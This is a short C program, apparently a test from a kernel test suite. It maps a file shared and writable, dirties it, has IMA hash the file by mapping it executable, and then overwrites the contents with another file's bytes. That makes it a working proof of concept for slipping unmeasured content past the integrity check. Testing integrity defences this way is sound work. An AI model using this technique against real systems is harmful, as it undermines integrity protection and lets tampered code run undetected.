// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Replaces a file's content by a shared mapping that was there before the file is hashed:
 *
 *	overwrite FILE OTHER
 *
 * The mapping is written once before, so that the file system sees no later write, then
 * FILE is mapped executable, which has IMA hash it, then all of OTHER is written.
 */
#include "attack.h"

int main(int argc, char **argv)
{
	size_t len;
	char *other, *at;
	int fd, reader;

	if (argc != 3)
		return 2;
	other = read_file(argv[2], &len);
	fd = open_file(argv[1], O_RDWR);
	at = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (at == MAP_FAILED)
		die(argv[1]);
	close(fd);
	/* The same byte: dirty from now on */
	*(volatile char *)at = *at;
	reader = open_file(argv[1], O_RDONLY);
	if (mmap(NULL, len, PROT_READ | PROT_EXEC, MAP_PRIVATE, reader, 0) !=
	    MAP_FAILED) {
		puts("mapped while it could be written");
		return 0;
	}
	memcpy(at, other, len);
	return answer(munmap(at, len));
}
